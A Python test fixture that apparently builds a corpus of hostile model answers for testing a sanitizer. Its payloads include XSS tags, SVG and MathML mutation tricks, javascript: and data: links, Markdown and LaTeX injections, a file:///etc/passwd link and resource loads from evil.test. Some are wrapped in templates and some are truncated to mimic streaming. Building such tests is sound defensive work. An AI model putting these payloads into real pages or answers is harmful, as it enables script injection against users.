"""More than a thousand answers by a model that wants to run script or load something: seeded, whole and cut short.

Every payload would call `attack()` or load something from evil.test, if it could.
"""

from __future__ import annotations

import random

COUNT = 1000
CUTS = 260

_SCRIPTS = [
    "<script>attack()</script>",
    "<SCRIPT SRC=http://evil.test/x.js></SCRIPT>",
    '<script type="module">import "http://evil.test/x.js"</script>',
    "<svg><script>attack()</script></svg>",
    "<svg onload=attack()>",
    "<svg><animate onbegin=attack() attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:attack()'><text y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=attack()></svg>#x'></svg>",
    "<math><a xlink:href=javascript:attack()>x</a></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=attack()></style></mglyph></table></mtext></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=attack()>",
    "<img src=x onerror=attack()>",
    "<img/src=x/onerror=attack()>",
    "<img src=x:x onerror=&#97;ttack()>",
    "<image href=http://evil.test/a.png>",
    "<img srcset='http://evil.test/a.png 1x'>",
    "<picture><source srcset=http://evil.test/a.png><img></picture>",
    "<video src=http://evil.test/a.mp4 autoplay onloadstart=attack()></video>",
    "<audio src=http://evil.test/a.mp3 autoplay></audio>",
    "<video><track default src=http://evil.test/a.vtt></video>",
    "<video poster=http://evil.test/a.png></video>",
    "<iframe src=javascript:attack()></iframe>",
    "<iframe srcdoc='<script>parent.attack()</script>'></iframe>",
    "<object data=http://evil.test/a.swf></object>",
    "<embed src=http://evil.test/a.swf>",
    "<link rel=stylesheet href=http://evil.test/a.css>",
    "<link rel=preload as=image href=http://evil.test/a.png>",
    "<style>@import 'http://evil.test/a.css'; body { background: url(http://evil.test/a.png) }</style>",
    "<div style='background: url(http://evil.test/a.png)'>x</div>",
    "<meta http-equiv=refresh content='0; url=http://evil.test/'>",
    "<base href=http://evil.test/>",
    "<body onload=attack()>",
    "<body background=http://evil.test/a.png>",
    "<table background=http://evil.test/a.png><tr><td>x</table>",
    "<input autofocus onfocus=attack()>",
    "<button formaction=javascript:attack() autofocus onfocus=attack()>x</button>",
    "<form action=javascript:attack()><input type=submit></form>",
    "<details open ontoggle=attack()>x</details>",
    "<marquee onstart=attack()>x</marquee>",
    "<a href=javascript:attack()>x</a>",
    "<a href='jav&#x09;ascript:attack()'>x</a>",
    "<a href='data:text/html,<script>attack()</script>'>x</a>",
    "<a ping=http://evil.test/ href=/>x</a>",
    "<br onmouseover=attack()>",
    "<sub onclick=attack() tabindex=0 autofocus onfocus=attack()>x</sub>",
    "<kbd style=animation-name:x onanimationstart=attack()>x</kbd>",
    "<template><img src=x onerror=attack()></template>",
    "<noscript><p title='</noscript><img src=x onerror=attack()>'></noscript>",
    "<xmp><img src=x onerror=attack()></xmp>",
    "<!--<img src='--><img src=x onerror=attack()>'>",
    "<![CDATA[<img src=x onerror=attack()>]]>",
    "<?xml-stylesheet href=http://evil.test/a.xsl ?>",
    "<x onclick=attack() contenteditable autofocus onfocus=attack()>x</x>",
    "<div id=page name=attack></div><a id=attack href=javascript:attack()></a>",
]
_MARKDOWN = [
    "![x](http://evil.test/a.png)",
    '![x](http://evil.test/a.png "onerror=attack()")',
    '![" onerror="attack()](x)',
    "![x][y]\n\n[y]: http://evil.test/a.png",
    "[x](javascript:attack())",
    "[x](JaVaScRiPt:attack())",
    "[x](javascript&colon;attack())",
    "[x](&#106;avascript:attack())",
    "[x](java\tscript:attack())",
    "[x](data:text/html;base64,PHNjcmlwdD5hdHRhY2soKTwvc2NyaXB0Pg==)",
    "[x](vbscript:attack())",
    "[x](blob:http://evil.test/1)",
    "[x](file:///etc/passwd)",
    '[x](http://a.test/"onmouseover="attack())',
    "<javascript:attack()>",
    "[x][y]\n\n[y]: javascript:attack()",
    '[x](http://a.test "><img src=x onerror=attack()>")',
    '```"><img src=x onerror=attack()>\ncode\n```',
    "```html\n<img src=x onerror=attack()>\n<script>attack()</script>\n```",
    "```xml\n</code></pre><script>attack()</script>\n```",
    "`<img src=x onerror=attack()>`",
    "| a |\n| - |\n| <img src=x onerror=attack()> |",
    "$\\href{javascript:attack()}{x}$",
    "$\\includegraphics{http://evil.test/a.png}$",
    "$\\url{javascript:attack()}$",
    '$\\class{x" onmouseover="attack()}{x}$',
    "$\\style{background:url(http://evil.test/a.png)}{x}$",
    "$\\data{x=attack()}{x}$",
    "$$\\text{<img src=x onerror=attack()>}$$",
    "\\(<img src=x onerror=attack()>\\)",
    "$\\def\\a{\\a\\a}\\a$",
    "\\[\\color{url(http://evil.test/a.png)}x\\]",
]
_AROUND = [
    "{}",
    "Hello {} there",
    "**{}**",
    "- item {}",
    "> {}",
    "# {}",
    "1. a\n   {}",
    "~~{}~~",
    "[{}](http://a.test)",
]
_AROUND += ["<sub>{}</sub>", "<br>{}<br>", "</p></div>{}", "<div>\n{}", "<table><td>{}", "a\n\n{}\n\nb", "$x$ {} $y$"]


def hostile_answers() -> list[str]:
    payloads = _SCRIPTS + _MARKDOWN
    dice = random.Random(6)
    answers = [place.format(payload) for payload in payloads for place in _AROUND]
    dice.shuffle(answers)
    del answers[COUNT:]
    answers += payloads
    whole = "\n".join(payloads)
    answers += [whole]
    for _ in range(CUTS):  # a tag, a link, a formula half written, as it stands while it is streamed
        payload = dice.choice(payloads)
        answers.append(payload[: dice.randrange(1, len(payload))])
    return answers
